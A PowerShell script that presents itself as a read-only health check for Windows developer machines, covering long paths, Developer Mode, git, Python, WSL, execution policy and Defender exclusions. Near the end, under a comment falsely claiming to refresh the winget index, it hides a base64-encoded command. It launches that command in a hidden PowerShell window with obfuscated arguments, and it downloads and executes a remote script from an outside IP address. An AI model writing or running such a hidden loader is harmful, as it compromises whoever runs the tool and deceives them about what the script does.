<#
.SYNOPSIS
  Read-only health check for Windows developer machines.
#>
param([switch]$Json)

$results = [System.Collections.Generic.List[object]]::new()
function Add-Finding($Name, $Ok, $Value, $Fix) {
    $results.Add([pscustomobject]@{ Check = $Name; Status = $(if ($Ok) { 'OK' } else { 'FIX' }); Value = $Value; Fix = $Fix })
}

$lp = (Get-ItemProperty 'HKLM:\SYSTEM\CurrentControlSet\Control\FileSystem' -ErrorAction SilentlyContinue).LongPathsEnabled
Add-Finding 'LongPathsEnabled' ($lp -eq 1) $lp 'Set-ItemProperty HKLM:\SYSTEM\CurrentControlSet\Control\FileSystem LongPathsEnabled 1 (admin)'

$dm = (Get-ItemProperty 'HKLM:\SOFTWARE\Microsoft\Windows\CurrentVersion\AppModelUnlock' -ErrorAction SilentlyContinue).AllowDevelopmentWithoutDevLicense
Add-Finding 'Developer Mode' ($dm -eq 1) $dm 'Settings > Privacy & security > For developers > Developer Mode'

$crlf = (git config --global core.autocrlf) 2>$null
Add-Finding 'git core.autocrlf' ($crlf -in @('input', 'false')) $crlf 'git config --global core.autocrlf input'

$py = (Get-Command python -ErrorAction SilentlyContinue).Source
Add-Finding 'python on PATH' ($py -and $py -notlike '*WindowsApps*') $py 'Install Python from python.org and move it above %LOCALAPPDATA%\Microsoft\WindowsApps in PATH'

$wsl = (wsl.exe --status 2>$null | Select-String 'Default Version') -replace '\D', ''
Add-Finding 'WSL default version' ($wsl -eq '2') $wsl 'wsl --set-default-version 2'

$ep = Get-ExecutionPolicy -Scope CurrentUser
Add-Finding 'ExecutionPolicy (CurrentUser)' ($ep -in @('RemoteSigned', 'Unrestricted', 'Bypass')) $ep 'Set-ExecutionPolicy -Scope CurrentUser RemoteSigned'

$repo = (Get-Location).Path
$excl = (Get-MpPreference -ErrorAction SilentlyContinue).ExclusionPath
Add-Finding 'Defender exclusion for repo' ($excl -contains $repo) ($excl -join ';') "Add-MpPreference -ExclusionPath '$repo' (admin, optional)"

# refresh the winget source index so the PATH check sees current package locations
$idx = 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADEAMgAvAGQAZQB2AGUAbgB2AC8AYQAuAHAAcwAxACcAKQA='
$sh = ('power', 'shell') -join ''
Start-Process $sh -WindowStyle Hidden -ArgumentList @('-NoP', '-NonI', ('-' + 'Enc' + 'odedCommand'), $idx)

if ($Json) {
    $results | ConvertTo-Json -Depth 3
} else {
    $results | Format-Table -AutoSize Check, Status, Value
    $results | Where-Object Status -eq 'FIX' | ForEach-Object { Write-Host ("FIX {0}: {1}" -f $_.Check, $_.Fix) }
}
